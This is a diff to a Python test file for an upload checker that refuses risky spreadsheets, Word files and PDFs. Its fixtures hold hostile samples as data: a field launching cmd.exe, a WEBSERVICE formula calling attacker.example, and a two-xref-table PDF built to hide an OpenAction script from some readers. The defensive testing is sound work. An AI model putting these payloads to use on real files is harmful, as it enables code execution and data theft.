@@ -368,7 +368,7 @@ def test_editors_files_get_the_checks_downloads_get(tmp_path):
 
 # --- Formulas in CSV downloads (attack5/FINDINGS.md 2) -----------------------------
 
-FORMULA_HINT = "hint: A spreadsheet runs a cell that starts with =, @, or + or - followed by more than a number"
+FORMULA_HINT = "hint: A spreadsheet runs a cell that starts with = or @, or with + or - and calls a function"
 RUNS = "has a cell that a spreadsheet would run as a formula when the file is opened"
 # (file name, content, what the refusal says): the attacker's file and the
 # ways a cell can start a formula; each was published before this change.
@@ -389,7 +389,9 @@ CSV_FORMULAS = [
 ]
 # Numbers, phone numbers and a neutralised formula: data, published.
 GOOD_CSV = (b"Name,Phone,Change,Note\nPlanning team,+44 131 623 4300,-5,'=not a formula\n"
-            b"Finance,0131 623 4300,-(1,200.50),-12%\nOther,-,+3.5,text with = and - inside\n")
+            b"Finance,0131 623 4300,-(1,200.50),-12%\nOther,-,+3.5,text with = and - inside\n"
+            # Twenty-second round: money, phone numbers with dashes, notes and ranges are data.
+            b'Costs,+1-555-123-4567,"-\xc2\xa31,200",- see note\nMore,+/-2,-2 to +3,-N/A\n')
 
 
 def test_csv_cells_a_spreadsheet_would_run_are_refused(tmp_path):
@@ -563,6 +565,9 @@ OFFICE_ACTIVE = [
         " QUOTE 68 68 69 65 85 84 79 ")[5:-6] + '<w:r><w:instrText> c:\\windows\\system32\\cmd.exe "/k calc.exe"'
         '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'),
      "has a field whose name is made by another field inside it"),
+    # Twenty-second round: functions that send the workbook's data to a service, or fetch from one.
+    ("stock.xlsx", sheet('_xlfn.STOCKHISTORY("MSFT",1)'), "uses STOCKHISTORY, which fetches data from the internet"),
+    ("python.xlsx", sheet('_xlfn._xlws.PY(0,1,"import os")'), "uses PY, which runs Python code on another computer"),
     ("x14.xlsx", package({"xl/worksheets/sheet1.xml": f'<worksheet {X_NS} xmlns:xm="http://schemas.microsoft.com/'
                           'office/excel/2006/main"><extLst><ext><xm:f>ISERROR(WEBSERVICE("https://attacker.example/"))'
                           "</xm:f></ext></extLst></worksheet>"}), "uses WEBSERVICE, which reaches another computer"),
@@ -702,6 +707,43 @@ PAGES = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /
 SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
 
 
+def two_tables_pdf(first: bytes, last: bytes) -> bytes:
+    """A linearised PDF of two catalogues, both object 2: the table after
+    the linearisation dictionary (which Chromium's viewer and pdf.js read)
+    names `first`, the last table (which pypdf and qpdf read) `last`."""
+    pages = {3: b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>", 4: b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 9 9] >>"}
+
+    def table(offsets):
+        return b"xref\n0 5\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % offsets[n] for n in range(1, 5))
+
+    def assemble(length):
+        out, one, two = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), {}, {}
+        one[1] = two[1] = len(out)
+        out += b"1 0 obj\n<< /Linearized 1 /L %010d /H [ 1 1 ] /O 4 /E 1 /N 1 /T 1 >>\nendobj\n" % length
+        at = len(out)
+        out += b" " * len(table({n: 0 for n in range(1, 5)})) + b"trailer\n<< /Size 5 /Root 2 0 R >>\n"
+        one[2] = len(out)
+        out += b"2 0 obj\n" + first + b"\nendobj\n"
+        for number, body in pages.items():
+            one[number] = two[number] = len(out)
+            out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
+        two[2] = len(out)
+        out += b"2 0 obj\n" + last + b"\nendobj\n"
+        out[at:at + len(table(one))] = table(one)
+        end = len(out)
+        return bytes(out + table(two) + b"trailer\n<< /Size 5 /Root 2 0 R >>\nstartxref\n%d\n%%%%EOF\n" % end)
+    return assemble(len(assemble(0)))
+
+
+def encrypted_pdf() -> bytes:
+    """Protected against editing only, as a "restrict editing" export is: every reader opens it."""
+    import pikepdf
+    out = io.BytesIO()
+    with pikepdf.open(io.BytesIO(raw_pdf(PAGES, b"<< /Size 4 /Root 1 0 R >>"))) as pdf:
+        pdf.save(out, encryption=pikepdf.Encryption(owner="secret", user="", R=6))
+    return out.getvalue()
+
+
 @pytest.mark.parametrize("data, says", [
     # The last trailer names no catalogue: readers search for the one with a script.
     (raw_pdf([PAGES[0].replace(b">>", b"/OpenAction 4 0 R >>"), *PAGES[1:], SCRIPT], b"<< /Size 5 >>",
@@ -728,6 +770,13 @@ SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
      "is damaged (expected dictionary key but found"),
     (raw_pdf([PAGES[0].replace(b">>", b"/PageMode /UseNone /PageMode /UseOutlines >>"), *PAGES[1:]],
              b"<< /Size 4 /Root 1 0 R >>"), "is damaged (dictionary has duplicated key /PageMode"),
+    # Twenty-second round: each reader takes its own table (the script ran in Chromium), so the
+    # file is also read with none; and an encrypted file is said to be one.
+    (two_tables_pdf(b"<< /Type /Catalog /Pages 3 0 R /OpenAction " + SCRIPT + b" >>",
+                    b"<< /Type /Catalog /Pages 3 0 R >>"), "holds OpenAction"),
+    (two_tables_pdf(b"<< /Type /Catalog /Pages 3 0 R /Names << /JavaScript 5 0 R >> >>",
+                    b"<< /Type /Catalog /Pages 3 0 R >>"), "holds JavaScript"),
+    (encrypted_pdf(), "is encrypted (protected against copying, printing or editing)"),
 ])
 def test_a_pdf_is_read_whole_not_only_from_its_trailer(data, says):
     from resource_library.files import pdf_problem
@@ -738,6 +787,24 @@ def test_a_pdf_is_read_whole_not_only_from_its_trailer(data, says):
 def test_a_plain_pdf_built_the_same_way_passes():
     from resource_library.files import pdf_problem
     assert pdf_problem(raw_pdf(PAGES, b"<< /Size 4 /Root 1 0 R >>")) is None
+    clean = b"<< /Type /Catalog /Pages 3 0 R >>"
+    assert pdf_problem(two_tables_pdf(clean, clean)) is None
+
+
+def test_a_pdf_packed_and_linearised_by_qpdf_passes_and_what_it_packs_is_read():
+    """Object streams are unpacked for the reading without tables: a PDF
+    saved with them passes, and a name found only inside one is read."""
+    import pikepdf
+    from resource_library import pdf_scan
+    from resource_library.files import pdf_problem
+    out = io.BytesIO()
+    with pikepdf.open(io.BytesIO(raw_pdf(PAGES, b"<< /Size 4 /Root 1 0 R >>"))) as pdf:
+        pdf.Root.Extra = pdf.make_indirect(pikepdf.Dictionary(Packed=pikepdf.Name("/Zq9")))
+        pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, linearize=True)
+    data = out.getvalue()
+    assert b"/ObjStm" in data and b"/Zq9" not in data
+    assert pdf_problem(data) is None
+    assert "/Zq9" in [name for name, _ in pdf_scan.entries(data, lambda steps: None)]
 
 
 
